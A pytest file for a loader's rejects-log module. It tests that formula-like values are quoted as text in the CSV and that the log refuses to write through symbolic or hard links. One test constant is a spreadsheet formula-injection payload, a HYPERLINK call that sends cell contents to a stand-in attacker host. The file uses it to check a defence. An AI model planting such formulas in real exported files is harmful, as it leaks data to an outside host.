"""loaders/rejects.py: the rejects file as a spreadsheet opens it, and where it is written."""

from __future__ import annotations

import csv
import os
import re
from pathlib import Path

import pytest

from loaders.rejects import Reject, RejectLog, read_rejects, spreadsheet_safe

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    with RejectLog(path) as log:
        log.add(Reject("firms.csv", 2, "name", HOSTILE, "name is too long"))
        log.add(Reject("bids.csv", 3, "amount", "-5", "amount is negative"))
        log.add(Reject("bids.csv", 4, "@SUM(A1)", "Plain Name", "unknown column"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbffile,line,")  # a byte-order mark: Excel reads it as UTF-8
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][3] == "'" + HOSTILE  # the quote is what Excel and LibreOffice take as "this is text"
    assert rows[2][3] == "'-5"  # text that reads as a number too: the safe side
    assert rows[3][2:4] == ["'@SUM(A1)", "Plain Name"]  # any text cell, a column name too
    assert [r.value for r in read_rejects(path)] == ["'" + HOSTILE, "'-5", "Plain Name"]
    assert log.count == 3 and log.rejects[0].value == HOSTILE  # in memory, the value as read


def test_spreadsheet_safe_quotes_formula_starts_and_leaves_numbers_and_plain_text():
    for text in ("=1+1", "+86 10 1234", "-5", "@cmd", "\t=1", "\r=1", "\n=1"):
        assert spreadsheet_safe(text) == "'" + text, repr(text)
    for value in ("Alpha Build", "北京", "a=b", "", "'=already quoted", -5, 3.5, None, True):
        assert spreadsheet_safe(value) == value, repr(value)


def test_the_rejects_file_is_not_written_through_a_symbolic_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("the loading user's own file\n", encoding="utf-8")
    data = tmp_path / "data"
    data.mkdir()
    for link, target in ((data / "rejects.csv", victim), (data / "dangling.csv", tmp_path / "new.txt")):
        link.symlink_to(target)
        with pytest.raises(OSError, match=f"rejects file {re.escape(str(link))} is a symbolic link"):
            with RejectLog(link) as log:
                log.add(Reject("firms.csv", 2, "name", "x", "bad"))
        assert link.is_symlink()
    assert victim.read_text(encoding="utf-8") == "the loading user's own file\n"
    assert not (tmp_path / "new.txt").exists()


def test_the_rejects_file_is_not_a_second_name_of_another_file(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    os.link(victim, tmp_path / "rejects.csv")
    with pytest.raises(OSError, match="is not a plain file of its own"):
        RejectLog(tmp_path / "rejects.csv").__enter__()
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    (tmp_path / "rejects.csv").unlink()  # a plain file of its own, an earlier run's, is replaced
    (tmp_path / "rejects.csv").write_text("an earlier run's rejects, longer than this run's\n" * 50, encoding="utf-8")
    with RejectLog(tmp_path / "rejects.csv") as log:
        log.add(Reject("firms.csv", 2, "name", "x", "bad"))
    assert read_rejects(tmp_path / "rejects.csv") == [Reject("firms.csv", 2, "name", "x", "bad")]


def test_a_rejects_file_that_cannot_be_written_names_the_option_that_moves_it() -> None:
    """An export folder mounted read-only, where the rejects file goes by default, failed the nightly load with a
    bare "[Errno 30] Read-only file system" (an operator's review). /sys refuses a new file, even to root."""
    with pytest.raises(OSError, match=r"cannot write the rejects file /sys/rejects\.csv: .*; name a file in a "
                                      r"writable folder with --rejects"):
        RejectLog(Path("/sys/rejects.csv")).__enter__()
